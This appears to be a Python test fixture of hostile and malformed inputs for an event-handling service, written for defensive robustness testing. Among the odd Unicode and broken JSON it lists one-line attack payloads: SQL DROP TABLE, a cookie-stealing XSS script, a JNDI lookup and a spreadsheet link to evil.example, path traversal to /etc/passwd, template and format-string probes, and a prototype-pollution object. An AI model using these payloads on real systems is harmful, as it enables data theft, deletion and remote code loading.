"""Hostile input: what the internet sends sooner or later."""

from __future__ import annotations

import json
from typing import Any

from tests.events import query, response

TEXTS: dict[str, str] = {
    "NUL": "Any\x00Rust?",
    "control characters": "".join(map(chr, range(1, 32))) + "?",
    "bidi override": "Any \u202egnal tsuR\u202c experience?",
    "zero width": "R\u200bu\u200cs\u200dt\ufeff?",
    "combining flood": "Z" + "\u0301" * 3_000,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 100,
    "noncharacter": "\ufffe\uffff",
    "sql": "'; DROP TABLE correlations; --",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "formula plus": "+1-2@SUM(1,1)",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "path": "../../../../etc/passwd",
    "jndi": "${jndi:ldap://evil.example/a}",
    "format": "%s%n%x %(name)s {0.__class__}",
    "long word": "A" * 4_000,
    "long words of dots": "a." * 2_000,
    "many skills": "python " * 571,
    "blank": " \t\n ",
    "right to left": "هل لديك خبرة في بايثون؟",
    "digits": "1" * 4_000,
    "at signs": "@" * 4_000,
    "unicode digits": "٠١٢٣٤٥٦٧٨٩" * 100,
}

BODIES: dict[str, bytes] = {
    "lone surrogate": b'{"eventType":"query","requestId":"q","timestamp":1762161120037,'
    b'"query":"\\ud800"}',
    "invalid utf-8": b'{"eventType":"query","query":"\xff\xfe"}',
    "deep list": b"[" * 30_000,
    "deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep list, closed": b"[" * 5_000 + b"]" * 5_000,
    "NaN": json.dumps(response(matchScore=float("nan"))).encode(),
    "infinity": json.dumps(response(metadata={"matchQuality": float("inf")})).encode(),
    "huge number": b'{"eventType":"query","requestId":"q","query":"?","timestamp":1'
    + b"0" * 5_000
    + b"}",
    "utf-16": "{}".encode("utf-16"),
    "two documents": b"{}{}",
    "trailing comma": b"[1,]",
    "null": b"null",
}

DOCUMENTS: dict[str, Any] = {
    "true for a score": response(matchScore=True),
    "true for a time": query(timestamp=True),
    "text for a score": response(matchScore="57"),
    "float for a score": response(matchScore=57.5),
    "seconds for milliseconds": query(timestamp=1_762_161_120),
    "negative time": query(timestamp=-1),
    "null id": query(requestId=None),
    "id with a newline": query("q-1\n"),
    "long id": query("q" * 257),
    "list for text": query(query=["?"]),
    "object for text": query(query={"$ne": ""}),
    "empty text": query(query=""),
    "missing score": {key: value for key, value in response().items() if key != "matchScore"},
    "match type in capitals": response(matchType="FULL"),
    "snake case": {"event_type": "query", "request_id": "q", "timestamp": 1, "query": "?"},
    "prototype": {"__proto__": {"eventType": "query"}},
}

ODD: dict[str, dict[str, Any]] = {
    "id with a slash": query("../q"),
    "id of a table key": query("#REQ#q"),
    "id with a bar and a space": query("19:a|b c"),
    "long text": query(query="x" * 4_001),
    "many sources": response(metadata={"sourcesUsed": ["x"] * 51}),
    "whole number with a fraction": response(matchScore=57.0, performance={"totalTime": 0.5}),
    "list for an object": query(metadata=[]),
    "no type": {key: value for key, value in query().items() if key != "eventType"},
}
